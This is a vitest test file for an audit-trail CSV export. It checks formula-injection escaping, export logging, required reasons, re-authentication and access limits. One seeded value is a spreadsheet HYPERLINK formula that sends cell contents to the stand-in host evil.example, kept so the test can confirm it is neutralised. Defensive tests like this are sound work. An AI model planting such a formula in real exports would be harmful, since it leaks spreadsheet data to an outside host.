import { parse } from 'csv-parse/sync'
import { beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { useApp } from '../../../../../tests/harness/app.ts'
import { NOW, useDatabase } from '../../../../../tests/harness/fresh-database.ts'
import { seatTeam, team } from '../../../../../tests/harness/team.ts'
import { newId } from '../../../../platform/secrets.ts'
import { writeAudit } from '../../store/trail.ts'

const database = useDatabase()
const { signedIn, clock } = useApp(database)
const formula = '=HYPERLINK("https://evil.example/?"&A1,"here")'
const record = newId()

beforeAll(async () => {
  await seatTeam(database)
  const viewer = team.practitioner
  for (const why of [formula, '+1', '-1', '@SUM(A1)', '\t=1', 'said, "quietly"\nat school'])
    await database.transactions.run(viewer, NOW, (tx) =>
      writeAudit(tx, { viewer, at: NOW, act: 'planted', about: { kind: 'case', id: record, why } }),
    )
})
beforeEach(() => {
  clock.now = NOW
})

const why = 'Asked for by the auditor'
const copies = () =>
  database.asOwner(
    `select actor, why, detail from audit.event where act = 'took a copy of the audit trail' order by no`,
  )

describe('a copy of the trail', () => {
  test('is a table that a spreadsheet reads and never runs', async () => {
    const answer = await (await signedIn('manager')).post('/audit/export', { act: 'planted', why })
    expect(answer.headers['content-disposition']).toBe('attachment; filename="audit-trail-2026-03-17.csv"')
    const rows = parse<Record<string, string>>(answer.body, { columns: true, bom: true })
    expect(rows).toHaveLength(6)
    for (const row of rows) {
      expect(row['who']).toBe('Robin Ashby')
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    }
    expect(rows.map((row) => row['why']).sort()).toContain(`'${formula}`)
    expect(rows.map((row) => row['why'])).toContain('said, "quietly"\nat school')
  })

  test('stands in the trail with what it was for and what it told', async () => {
    const before = (await copies()).length
    await (await signedIn('data-lead')).post('/audit/export', { record, why })
    expect((await copies()).slice(before)).toEqual([{ actor: team.dataLead.id, why, detail: { record, rows: 6 } }])
  })

  test('needs a reason, keeps what was chosen, and without one nothing is taken', async () => {
    const before = (await copies()).length
    const answer = await (await signedIn('manager')).post('/audit/export', { record, why: ' ', act: 'planted' })
    expect(answer.statusCode).toBe(422)
    for (const words of ['Write what the copy is for.', record, 'selected>Planted'])
      expect(answer.body).toContain(words)
    expect(await copies()).toHaveLength(before)
  })

  test('is asked for anew by somebody who signed in a while ago', async () => {
    const visitor = await signedIn('manager')
    const csrf = /name="_csrf" value="([^"]+)"/.exec((await visitor.get('/audit/export')).body)?.[1] ?? ''
    clock.now = new Date(NOW.getTime() + 20 * 60_000)
    await visitor.get('/today')
    expect((await visitor.get('/audit/export')).headers['location']).toMatch(/^\/sign-in\/again/)
    const sent = await visitor.send('/audit/export', { _csrf: csrf, why })
    expect([sent.statusCode, sent.body.includes('planted')]).toEqual([303, false])
  })

  test('holds what its reader may read, and no more', async () => {
    const answer = await (await signedIn('safeguarding-trustee')).post('/audit/export', { why })
    expect(answer.statusCode).toBe(200)
    expect(answer.body).not.toContain('planted')
  })
})
